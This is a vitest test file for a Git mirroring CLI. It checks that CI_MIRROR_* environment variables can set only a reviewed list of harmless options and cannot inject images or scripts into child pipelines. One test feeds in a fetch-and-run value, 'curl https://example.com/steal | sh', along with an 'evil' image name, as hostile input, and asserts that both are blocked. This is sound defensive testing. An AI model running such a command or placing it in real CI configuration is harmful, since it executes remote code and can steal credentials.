/**
 * Which options a `CI_MIRROR_*` variable may set. A pipeline or trigger variable can set any
 * variable, so only options that change pace or narrow a run come from the environment; a damage
 * guard's override, the config, the cache, where files are written, where the GitLab token goes
 * and what a child pipeline runs come only from the command line (and the reviewed config).
 */
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ENV_OPTIONS } from "../src/cli/parser.ts";
import { runCli } from "./helpers/cli.ts";
import { buildRepo, listRefs, tempDir } from "./helpers/fixtures.ts";
import { TARGET_TOKEN, UPSTREAM_TOKEN, uniqueName, useGitServer, workspace } from "./helpers/sync-env.ts";

const server = useGitServer();

// Reviewed one by one: each changes how fast or how much a run does, never what it may damage,
// where credentials or files go, or what runs. Adding to ENV_OPTIONS means adding here, with a reason.
const HARMLESS = {
  mirror: "narrows a sync to mirrors of the reviewed config",
  all: "every mirror of the reviewed config (conflicts with --mirror rather than overriding it)",
  only: "narrows a plan to mirrors of the reviewed config",
  concurrency: "pace (the child pipeline sets it for its jobs)",
  "dry-run": "changes nothing",
  timeout: "pace: a shorter one can only fail a run",
  "batch-size": "pace",
  retries: "pace",
  "retry-delay": "pace",
  json: "output format",
  debug: "stack traces, redacted like every output",
};

describe("CI_MIRROR_* variables", () => {
  it("set only the reviewed harmless options", () => {
    expect([...ENV_OPTIONS].sort()).toEqual(Object.keys(HARMLESS).sort());
  });

  it("never set a destructive override, whatever its value", () => {
    for (const option of [
      "allow-mass-delete",
      "allow-mass-rewrite",
      "config",
      "cache-dir",
      "report",
      "junit",
      "out",
      "image",
      "before-script",
      "gitlab-url",
      "url",
      "token-var",
      "username",
      "prune",
      "rotate-credentials",
      "resync-failed",
      "notify-webhook",
      "max-age",
      "stuck-after",
    ]) {
      expect(ENV_OPTIONS.has(option), option).toBe(false);
    }
  });

  it("cannot let an empty upstream empty the target (CI_MIRROR_ALLOW_MASS_DELETE)", async () => {
    const name = uniqueName("envdel");
    await server().createRepo(`up/${name}`);
    const target = await server().createRepo(`mirror/${name}`, { flavor: "gitlab" });
    await buildRepo(target, { commits: 2, branches: 3, tags: 1 });
    const before = await listRefs(target);
    const ws = await workspace({ CI_MIRROR_ALLOW_MASS_DELETE: "true", CI_MIRROR_ALLOW_MASS_REWRITE: "true" });
    await ws.configure([
      { name, source: server().repoUrl(`up/${name}`), target: server().repoUrl(`mirror/${name}`) },
    ]);

    const run = await ws.sync("--all");

    expect(run.code).toBe(1);
    expect(run.stdout).toContain("--allow-mass-delete");
    expect(await listRefs(target)).toEqual(before);
  });

  it("cannot choose what the plan's child jobs run (CI_MIRROR_IMAGE, CI_MIRROR_BEFORE_SCRIPT)", async () => {
    const { path: dir } = await tempDir("env-plan");
    await writeFile(
      join(dir, "mirrors.yml"),
      "version: 1\ndefaults:\n  target:\n    url: https://gitlab.example.com/m/{name}.git\n    token: T\nmirrors:\n  - name: tool\n    source: https://example.com/tool.git\n",
    );

    const run = await runCli(["plan", "--out", "child.yml"], {
      cwd: dir,
      env: {
        CI_MIRROR_IMAGE: "registry.example.com/evil:latest",
        CI_MIRROR_BEFORE_SCRIPT: "curl https://example.com/steal | sh",
        UPSTREAM_TOKEN,
        TARGET_TOKEN,
      },
    });

    expect(run.code, run.stderr).toBe(0);
    const child = await readFile(join(dir, "child.yml"), "utf8");
    expect(child).not.toContain("evil");
    expect(child).not.toContain("steal");
  });
});
